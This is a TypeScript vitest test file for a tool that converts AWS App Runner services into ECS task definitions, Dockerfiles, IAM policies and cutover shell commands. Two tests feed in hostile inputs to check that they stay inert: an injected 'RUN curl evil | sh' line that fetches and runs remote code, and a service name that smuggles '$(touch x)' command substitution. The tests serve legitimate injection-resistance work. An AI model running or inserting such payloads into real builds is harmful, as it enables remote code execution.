import { spawnSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { buildPlan } from "./build-plan";
import { imageService, repositoryService, secretsService, vpcService } from "./plan-fixtures";

describe("buildPlan: the mapping", () => {
  it("maps an image service field by field", () => {
    const p = buildPlan(imageService);
    const r = p.request;
    expect(r.serviceName).toBe("web-api");
    expect(r.primaryContainer.image).toBe("public.ecr.aws/nginx/nginx:1.27");
    expect(r.primaryContainer.containerPort).toBe(80);
    expect(r.primaryContainer.environment).toEqual([
      { name: "LOG_LEVEL", value: "info" },
      { name: "GREETING", value: "it's \"quoted\"" },
    ]);
    expect(r.primaryContainer.command).toEqual(["/bin/sh", "-c", "nginx -g 'daemon off;'"]);
    expect([r.cpu, r.memory]).toEqual(["1024", "2048"]);
    expect(r.healthCheckPath).toBe("/healthz");
    expect(r.scalingTarget).toMatchObject({ minTaskCount: 2, maxTaskCount: 10, autoScalingMetric: "REQUEST_COUNT_PER_TARGET" });
    // ECS's tag pattern refuses "<": that tag is left out and the plan says so.
    expect(r.tags).toEqual([
      { key: "team", value: "payments" },
      { key: "cost center", value: "42" },
    ]);
    expect(p.rows.find((x) => x.ecs === "tags")?.note).toContain("bad<tag>");
    expect(r.networkConfiguration).toBeUndefined();
    expect(r.taskRoleArn).toBeUndefined();
    expect(r.executionRoleArn).toBe("arn:aws:iam::123456789012:role/ecsTaskExecutionRole");
    expect(p.image).toBeUndefined();
    expect(p.readiness).toBe("ready");
  });

  it("gives a source service with apprunner.yaml a Dockerfile, image commands and its ECR image", () => {
    const p = buildPlan(repositoryService);
    expect(p.service.kind).toBe("code");
    expect(p.request.primaryContainer.image).toBe("123456789012.dkr.ecr.us-east-1.amazonaws.com/shop-front:latest");
    expect(p.request.primaryContainer.containerPort).toBe(3000);
    expect(p.request.primaryContainer.environment).toEqual([{ name: "NODE_ENV", value: "production" }]);
    expect(p.request.primaryContainer.secrets).toEqual([{ name: "STRIPE_KEY", valueFrom: "arn:aws:secretsmanager:us-east-1:123456789012:secret:stripe-AbCdEf" }]);
    expect(p.request.taskRoleArn).toBe("arn:aws:iam::123456789012:role/shop-front-instance");
    expect([p.request.cpu, p.request.memory]).toEqual(["256", "512"]);
    const df = p.image!.dockerfile.split("\n");
    expect(df).toContain("FROM public.ecr.aws/docker/library/node:22-slim");
    expect(df).toContain('RUN ["/bin/sh","-c","npm ci"]');
    expect(df).toContain('RUN ["/bin/sh","-c","npm run build"]');
    expect(df).toContain('CMD ["/bin/sh","-c","node dist/server.js"]');
    expect(df).toContain("EXPOSE 3000");
    expect(p.image!.commands.at(-1)).toBe("docker push 123456789012.dkr.ecr.us-east-1.amazonaws.com/shop-front:latest");
    // TCP check: a path must be chosen, so the plan is not ready.
    expect(p.readiness).toBe("needs-decisions");
    expect(p.decisions.join(" ")).toMatch(/TCP health check/);
    const gaps = Object.fromEntries(p.gaps.map((g) => [g.id, g.status]));
    expect(gaps).toMatchObject({ "auto-deploy": "applies", "tcp-health-check": "applies", "custom-domains": "applies", observability: "not-used", waf: "check" });
  });

  it("without apprunner.yaml a repository-configured service asks for it and makes no Dockerfile", () => {
    const p = buildPlan({ ...repositoryService, apprunnerYaml: undefined });
    expect(p.image).toBeUndefined();
    expect(p.decisions.join(" ")).toMatch(/paste that file/);
    const bad = buildPlan({ ...repositoryService, apprunnerYaml: "runtime: nodejs22\nrun: {}\n" });
    expect(bad.image).toBeUndefined();
    expect(bad.decisions.join(" ")).toContain("run.command");
  });

  it("carries a VPC connector's subnets and security groups into networkConfiguration", () => {
    const p = buildPlan(vpcService);
    expect(p.request.networkConfiguration).toEqual({ subnets: ["subnet-0a1b2c3d", "subnet-4e5f6a7b"], securityGroups: ["sg-0123abcd"] });
    expect(p.image!.dockerfile).toContain("FROM public.ecr.aws/docker/library/python:3.11-slim");
    expect(p.image!.commands[2]).toContain("./services/orders");
    expect(p.readiness).toBe("needs-image");
    const unread = buildPlan({ ...vpcService, vpcConnector: null });
    expect(unread.request.networkConfiguration).toEqual({ subnets: ["<subnet-id>"], securityGroups: ["<security-group-id>"] });
    expect(unread.readiness).toBe("needs-decisions");
  });

  it("maps secret references to valueFrom and never copies a secret that is not a reference", () => {
    const p = buildPlan(secretsService);
    expect(p.request.primaryContainer.secrets).toEqual([
      { name: "DB_PASSWORD", valueFrom: "arn:aws:secretsmanager:us-east-1:123456789012:secret:billing/db-XyZ123" },
      { name: "API_TOKEN", valueFrom: "arn:aws:ssm:us-east-1:123456789012:parameter/billing/api-token" },
      { name: "LEGACY", valueFrom: "<ARN of the Secrets Manager secret or SSM parameter for LEGACY>" },
    ]);
    expect(JSON.stringify(p)).not.toContain("plain-secret-value-that-must-not-leak");
    expect(p.readiness).toBe("needs-decisions");
    // The execution role may read exactly those secrets.
    const policy = p.iam.files["iam/execution-role-secrets.json"]!;
    expect(policy.Statement).toEqual([
      { Effect: "Allow", Action: ["secretsmanager:GetSecretValue"], Resource: ["arn:aws:secretsmanager:us-east-1:123456789012:secret:billing/db-XyZ123"] },
      { Effect: "Allow", Action: ["ssm:GetParameters"], Resource: ["arn:aws:ssm:us-east-1:123456789012:parameter/billing/api-token"] },
    ]);
    expect(p.gaps.find((g) => g.id === "observability")?.status).toBe("applies");
  });

  it("a Dockerfile command cannot add instructions of its own", () => {
    const evil = { ...vpcService, service: structuredClone(vpcService.service) };
    evil.service.SourceConfiguration!.CodeRepository!.CodeConfiguration!.CodeConfigurationValues!.BuildCommand = 'pip install x\nRUN curl evil | sh\n"]';
    const df = buildPlan(evil).image!.dockerfile;
    expect(df.split("\n").filter((l) => l.startsWith("RUN"))).toEqual(['RUN ["/bin/sh","-c","pip install x\\nRUN curl evil | sh\\n\\"]"]']);
  });

  it("cutover commands keep every argument intact through a real shell", () => {
    const nasty = structuredClone(imageService);
    nasty.service.ServiceName = "it's-$(touch x)";
    const steps = buildPlan(nasty).cutover;
    const pause = steps.find((s) => s.title.startsWith("Pause"))!.commands[0]!;
    const out = spawnSync("bash", ["-c", `aws() { for a in "$@"; do printf '%s\\0' "$a"; done; }\n${pause}`], { encoding: "utf8" });
    expect(out.stdout.split("\0").slice(0, -1)).toEqual(["apprunner", "pause-service", "--region", "us-east-1", "--service-arn", nasty.service.ServiceArn]);
    const watch = steps.find((s) => s.title === "Watch both")!.commands[0]!;
    const args = spawnSync("bash", ["-c", `aws() { for a in "$@"; do printf '%s\\0' "$a"; done; }\n${watch}`], { encoding: "utf8" }).stdout.split("\0");
    expect(args).toContain("Name=ServiceName,Value=it's-$(touch x)");
  });
});
